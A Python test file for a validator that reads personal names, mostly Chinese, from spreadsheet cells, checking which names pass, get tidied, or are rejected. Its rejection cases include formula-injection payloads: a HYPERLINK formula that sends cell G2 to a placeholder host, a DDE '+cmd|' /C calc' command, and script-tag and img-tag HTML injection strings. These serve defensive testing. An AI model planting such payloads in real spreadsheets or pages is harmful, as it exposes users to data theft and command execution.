"""姓名: which names stand as they are, which are tidied, and which are sent back."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from xueheng.tables.cells.names import is_formula_like, read_name
from xueheng.tables.cells.reading import Reading

BLOCKS = [
    (0x3400, 0x4DBF), (0x4E00, 0x9FFF), (0xF900, 0xFA6D), (0x20000, 0x2A6DF), (0x2A700, 0x2B739),
    (0x2B740, 0x2B81D), (0x2B820, 0x2CEA1), (0x2CEB0, 0x2EBE0), (0x2EBF0, 0x2EE5D), (0x2F800, 0x2FA1D),
    (0x30000, 0x3134A), (0x31350, 0x323AF),
]  # fmt: skip
HAN = st.one_of([st.characters(min_codepoint=first, max_codepoint=last) for first, last in BLOCKS])
NAMES = st.text(HAN, min_size=1, max_size=5)
DOTS = "·•・･‧∙⋅●.．。｡"
TEXTS = st.one_of(
    st.text(max_size=20),
    st.text("李明阿依 \u3000·•．.・-'’AbÉ\u0301\u200d\u180e\ufeff？?𠮷ئ་ᠪ\ufe00\U000e0100", max_size=12),
)


@given(NAMES)
def test_a_han_character_of_any_plane_is_kept_as_it_is(name):
    assert read_name(name) == Reading(name)


@pytest.mark.parametrize(
    "name",
    ["李明", "欧阳诗琪", "𠮷田㛃", "䶮", "𬭎", "〇一", "佐々木", "豈明", "阿依古丽·买买提", "龍\U000e0100",
     "Mary Ann", "José", "Nguyễn Văn An", "O'Brien", "Mary-Ann", "J. K. Rowling", "J.K. Rowling",
     "J·K·罗琳", "Mary 李", "ئايگۈل", "བསྟན་འཛིན་", "ᠪᠠᠲᠤ", "ꆈꌠ", "김철수", "Иван", "阿卜杜·热合曼·买买提"],
)  # fmt: skip
def test_names_of_every_script_stand_as_they_are(name):
    assert read_name(name) == Reading(name)


@given(NAMES, st.sampled_from([" ", "\u3000", "\xa0", "\t", "\n", "  "]))
def test_blanks_between_and_around_han_characters_are_no_part_of_a_name(name, blank):
    spaced = blank + blank.join(name) + blank
    assert read_name(spaced) == Reading(name, "NAME_SPACE", "notice", name)


@pytest.mark.parametrize("dot", DOTS)
@given(first=NAMES, second=NAMES)
def test_any_dot_between_han_parts_is_the_one_dot(dot, first, second):
    right = f"{first}·{second}"
    told = Reading(right) if dot == "·" else Reading(right, "NAME_DOT", "notice", right)
    assert read_name(f"{first}{dot}{second}") == told


@pytest.mark.parametrize(
    ("text", "name", "problem"),
    [("阿依古丽 • 买买提", "阿依古丽·买买提", "NAME_DOT"), ("阿里..买买提", "阿里·买买提", "NAME_DOT"),
     ("阿里 · 买买提", "阿里·买买提", "NAME_SPACE"), ("Mary  Ann", "Mary Ann", "NAME_SPACE"),
     ("李\u200b明", "李明", "NORMALISED"), ("\ufeff李明", "李明", "NORMALISED"),
     ("'李明", "李明", "NORMALISED"), ("ＭＡＲＹ", "MARY", "NORMALISED"),
     ("O’Brien", "O'Brien", "NORMALISED"), ("⽅明", "方明", "NORMALISED"), ("⻢可", "马可", "NORMALISED"),
     ("Jose\u0301", "José", "NORMALISED"), ("李\x00明", "李明", "NORMALISED")],
)  # fmt: skip
def test_names_are_tidied_with_a_notice(text, name, problem):
    assert read_name(text) == Reading(name, problem, "notice", name)


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&G2,"点我")', "+cmd|' /C calc'!A0", "<script>alert(1)</script>",
     '"><img src=x>', "@SUM(1+1)", "张伟1", "张伟A", "李明（转学）", "李明(女)", "张三、李四", "张三/李四",
     "阿里-买买提", "·李明", "李明.", "阿里...买买提", "李_明", "李明😀", "１２", "12", "-", "李,明",
     "“李明”", "O'", "さくら", "=" * 60],
)  # fmt: skip
def test_what_no_name_holds_is_an_error(text):
    assert read_name(text) == Reading(None, "NAME_CHARS", "error")


@pytest.mark.parametrize(
    "text",
    ["李?明", "李？", "李□明", "李\ue000", "李\ufffd", "李*明", "李××", "李○○", "李\U000f0000", "李⿰亻"],
)
def test_a_sign_that_stands_for_a_character_is_an_error_of_its_own(text):
    assert read_name(text) == Reading(None, "NAME_STANDIN", "error")


def test_a_name_has_fifty_characters_at_most():
    assert read_name("a" * 50).problem is None
    assert read_name("a" * 51) == Reading(None, "NAME_LONG", "error")


@pytest.mark.parametrize("text", ["阿依古丽 买买提", "张建国　李秀英"])
def test_a_blank_in_a_long_name_may_be_a_dot_or_part_two_persons(text):
    reading = read_name(text)
    assert (reading.problem, reading.severity, reading.repair) == ("NAME_PARTS", "warning", None)
    assert reading.value == text.replace("\u3000", " ")


@pytest.mark.parametrize("text", ["", " ", "\u3000", "\ufeff", "\u200b \u200b"])
def test_a_blank_cell_is_no_name(text):
    assert read_name(text) == Reading()


@example("ؠ\u180e\u180e")
@given(TEXTS)
def test_any_text_is_read_without_a_crash_and_its_repair_says_the_same(text):
    reading = read_name(text)
    assert read_name(reading.repair or "") == Reading(reading.value if reading.repair else None)
    assert (reading.value is None) >= (reading.severity == "error")


@pytest.mark.parametrize(
    "text", ["ཀ་" * 9000 + "!", "a\u180e" * 9000 + "!", "A-" * 9000, " •" * 9000, "a." * 9000]
)
def test_a_cell_as_long_as_excel_allows_is_read_at_once(text):
    assert read_name(text).problem in ("NAME_CHARS", "NAME_LONG")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "＝1",
        " =A1",
        "@SUM(1+1)*cmd",
        "＠x",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-abc",
        "－A1",
        "\tx",
        "\r=1",
        "+1+1",
    ],
)
def test_what_a_spreadsheet_may_take_for_a_formula(text):
    assert is_formula_like(text)


@pytest.mark.parametrize(
    "text",
    [
        "李明",
        "",
        "-",
        "--",
        "－",
        "+5",
        "-5.5",
        "-12%",
        "+1,200",
        "-1e5",
        "+86 138-0000-0149",
        "a=1",
        "1-2",
        "—",
    ],
)
def test_numbers_phones_and_dashes_are_no_formulas(text):
    assert not is_formula_like(text)
